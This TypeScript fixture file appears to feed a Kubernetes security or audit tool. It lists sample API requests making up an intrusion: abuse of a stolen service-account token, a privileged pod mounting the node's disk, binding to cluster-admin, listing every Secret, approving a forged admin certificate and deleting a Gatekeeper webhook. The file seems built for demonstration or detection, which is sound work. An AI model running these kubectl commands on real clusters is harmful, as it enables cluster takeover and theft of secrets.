import type { SampleRequest } from '../types';
import {
  allowedByClusterRole,
  basicUser,
  curlFromOutside,
  forbidden,
  kubernetesAdmin,
  stolenToken,
} from './callers';
import { leaves, managed, now } from './metadata';
import { privilegedPodCreated, privilegedPodSent } from './privilegedPod';
import { secretList } from './secretObjects';
import { deleteOptions, failure } from './statuses';
import { uidOf } from '../uidOf';

const rbac = 'rbac.authorization.k8s.io';

const ruleFor = (verbs: string[], group: string, ...resources: string[]) => ({
  verbs,
  apiGroups: [group],
  resources,
});
const urlsFor = (...nonResourceURLs: string[]) => ({ verbs: ['get'], nonResourceURLs });

const accessQuestion = {
  resourceAttributes: { namespace: 'prod', verb: 'create', resource: 'pods' },
};

const binding = {
  subjects: [{ kind: 'ServiceAccount', name: 'web', namespace: 'prod' }],
  roleRef: { apiGroup: rbac, kind: 'ClusterRole', name: 'cluster-admin' },
};

const csr = (resourceVersion: string, decidedAt: string | null) => ({
  kind: 'CertificateSigningRequest',
  apiVersion: 'certificates.k8s.io/v1',
  metadata: {
    name: 'mallory',
    uid: uidOf('mallory'),
    resourceVersion,
    creationTimestamp: now,
  },
  spec: {
    request: 'LS0tLS1CRUdJTiBDRVJUSUZJQ0FURSBSRVFVRVNULS0tLS0K',
    signerName: 'kubernetes.io/kube-apiserver-client',
    usages: ['client auth'],
    username: 'kubernetes-admin',
    groups: kubernetesAdmin.user.groups,
    extra: kubernetesAdmin.user.extra,
  },
  status: {
    conditions: [
      {
        type: 'Approved',
        status: 'True',
        reason: 'KubectlApprove',
        message: 'This CSR was approved by kubectl certificate approve.',
        lastUpdateTime: now,
        lastTransitionTime: decidedAt,
      },
    ],
  },
});

/** An attacker with a stolen pod token becomes cluster-admin; more steps of an intrusion follow. */
export const attack: readonly SampleRequest[] = [
  {
    id: 'bad-token',
    command: 'curl -k -H "Authorization: Bearer xxx" https://API:6443/api/v1/pods',
    title: 'Tries an invalid token',
    kinds: ['Attack'],
    method: 'GET',
    url: '/api/v1/pods',
    ...curlFromOutside,
    user: null,
    authorizationHeader: 'Bearer xxx',
    // Not evaluated: the request ends at authentication.
    authorization: forbidden,
    response: { code: 401, body: failure(401, 'Unauthorized', 'Unauthorized') },
  },
  {
    id: 'can-i',
    command: 'kubectl auth can-i --list -n prod',
    title: 'Lists what the stolen token may do',
    kinds: ['Attack', 'Workloads'],
    method: 'POST',
    url: '/apis/authorization.k8s.io/v1/selfsubjectrulesreviews',
    ...stolenToken,
    authorization: basicUser,
    requestBody: {
      kind: 'SelfSubjectRulesReview',
      apiVersion: 'authorization.k8s.io/v1',
      metadata: {},
      spec: { namespace: 'prod' },
      status: { resourceRules: null, nonResourceRules: null, incomplete: false },
    },
    response: {
      code: 201,
      body: {
        kind: 'SelfSubjectRulesReview',
        apiVersion: 'authorization.k8s.io/v1',
        metadata: {},
        spec: {},
        status: {
          resourceRules: [
            ruleFor(
              ['create'],
              'authorization.k8s.io',
              'selfsubjectaccessreviews',
              'selfsubjectrulesreviews',
            ),
            ruleFor(['create', 'get', 'list'], '', 'pods'),
            ruleFor(['get'], '', 'nodes/proxy'),
            ruleFor(['create'], rbac, 'clusterrolebindings'),
            ruleFor(['bind'], rbac, 'clusterroles'),
          ],
          nonResourceRules: [
            urlsFor('/healthz', '/livez', '/readyz', '/version', '/version/'),
            urlsFor('/api', '/api/*', '/apis', '/apis/*', '/openapi', '/openapi/*'),
          ],
          incomplete: false,
        },
      },
    },
  },
  {
    id: 'can-i-one',
    command: 'kubectl auth can-i create pods -n prod',
    title: 'Checks one permission of the stolen token',
    kinds: ['Attack', 'Workloads'],
    method: 'POST',
    url: '/apis/authorization.k8s.io/v1/selfsubjectaccessreviews',
    ...stolenToken,
    authorization: basicUser,
    requestBody: {
      kind: 'SelfSubjectAccessReview',
      apiVersion: 'authorization.k8s.io/v1',
      metadata: {},
      spec: accessQuestion,
      status: { allowed: false },
    },
    response: {
      code: 201,
      body: {
        kind: 'SelfSubjectAccessReview',
        apiVersion: 'authorization.k8s.io/v1',
        metadata: {
          managedFields: [
            managed('kubectl', 'authorization.k8s.io/v1', now, {
              'f:spec': {
                'f:resourceAttributes': { '.': {}, ...leaves('namespace', 'resource', 'verb') },
              },
            }),
          ],
        },
        spec: accessQuestion,
        status: { allowed: true, reason: stolenToken.authorization.reason },
      },
    },
  },
  {
    id: 'secret-list-denied',
    command: 'kubectl get secrets -n kube-system --token=$POD_TOKEN',
    title: 'Tries to list Secrets and is denied by RBAC',
    kinds: ['Attack', 'Workloads'],
    method: 'GET',
    url: '/api/v1/namespaces/kube-system/secrets?limit=500',
    ...stolenToken,
    authorization: forbidden,
    response: {
      code: 403,
      body: failure(
        403,
        'Forbidden',
        'secrets is forbidden: User "system:serviceaccount:prod:web" cannot list resource "secrets" in API group "" in the namespace "kube-system"',
        { kind: 'secrets' },
      ),
    },
  },
  {
    id: 'clusterrole-denied',
    command: 'kubectl create clusterrole all --verb=* --resource=*',
    title: 'Tries to create an all-powerful ClusterRole and is denied by RBAC',
    kinds: ['Attack', 'Workloads'],
    method: 'POST',
    url: `/apis/${rbac}/v1/clusterroles?fieldManager=kubectl-create&fieldValidation=Strict`,
    ...stolenToken,
    authorization: forbidden,
    response: {
      code: 403,
      body: failure(
        403,
        'Forbidden',
        `clusterroles.${rbac} is forbidden: User "system:serviceaccount:prod:web" cannot create resource "clusterroles" in API group "${rbac}" at the cluster scope`,
        { group: rbac, kind: 'clusterroles' },
      ),
    },
  },
  {
    id: 'pod-create-privileged',
    command: 'kubectl apply -f evil.yaml',
    title: 'Creates a privileged pod that mounts the disk of the node',
    kinds: ['Attack', 'Workloads'],
    method: 'POST',
    url: '/api/v1/namespaces/prod/pods?fieldManager=kubectl-client-side-apply&fieldValidation=Strict',
    ...stolenToken,
    requestBody: privilegedPodSent,
    response: { code: 201, body: privilegedPodCreated },
    annotations: { 'pod-security.kubernetes.io/enforce-policy': 'privileged:latest' },
  },
  {
    id: 'crb-create',
    command:
      'kubectl create clusterrolebinding pwn --clusterrole=cluster-admin --serviceaccount=prod:web',
    title: 'Binds its own service account to cluster-admin',
    kinds: ['Attack', 'Workloads'],
    method: 'POST',
    url: `/apis/${rbac}/v1/clusterrolebindings?fieldManager=kubectl-create&fieldValidation=Strict`,
    ...stolenToken,
    requestBody: {
      kind: 'ClusterRoleBinding',
      apiVersion: `${rbac}/v1`,
      metadata: { name: 'pwn' },
      ...binding,
    },
    response: {
      code: 201,
      body: {
        kind: 'ClusterRoleBinding',
        apiVersion: `${rbac}/v1`,
        metadata: {
          name: 'pwn',
          uid: uidOf('pwn'),
          resourceVersion: '742',
          creationTimestamp: now,
          managedFields: [
            managed('kubectl-create', `${rbac}/v1`, now, leaves('roleRef', 'subjects')),
          ],
        },
        ...binding,
      },
    },
  },
  {
    id: 'secret-list-all',
    command: 'kubectl get secrets -A -o yaml --token=$POD_TOKEN',
    title: 'Lists every Secret in the cluster',
    kinds: ['Attack', 'Workloads'],
    method: 'GET',
    url: '/api/v1/secrets?limit=500',
    ...stolenToken,
    authorization: allowedByClusterRole('cluster-admin', 'ServiceAccount "web/prod"', 'pwn'),
    response: { code: 200, body: secretList },
  },
  {
    id: 'node-proxy',
    command: 'kubectl get --raw /api/v1/nodes/worker-1/proxy/runningpods/',
    title: 'Calls a kubelet through the API server',
    kinds: ['Attack', 'Workloads'],
    method: 'GET',
    url: '/api/v1/nodes/worker-1/proxy/runningpods/',
    ...stolenToken,
    response: { code: 200 },
  },
  {
    id: 'csr-approve',
    command: 'kubectl certificate approve mallory',
    title: 'Approves a client certificate',
    kinds: ['People', 'Attack'],
    method: 'PUT',
    url: '/apis/certificates.k8s.io/v1/certificatesigningrequests/mallory/approval',
    ...kubernetesAdmin,
    requestBody: csr('708', null),
    response: { code: 200, body: csr('709', now) },
  },
  {
    id: 'webhook-delete',
    command: 'kubectl delete validatingwebhookconfiguration gatekeeper',
    title: 'Deletes a validating webhook',
    kinds: ['People', 'Attack'],
    method: 'DELETE',
    url: '/apis/admissionregistration.k8s.io/v1/validatingwebhookconfigurations/gatekeeper',
    ...kubernetesAdmin,
    requestBody: deleteOptions(),
    response: {
      code: 200,
      body: {
        kind: 'Status',
        apiVersion: 'v1',
        metadata: {},
        status: 'Success',
        details: {
          name: 'gatekeeper',
          group: 'admissionregistration.k8s.io',
          kind: 'validatingwebhookconfigurations',
          uid: uidOf('gatekeeper'),
        },
      },
    },
  },
];
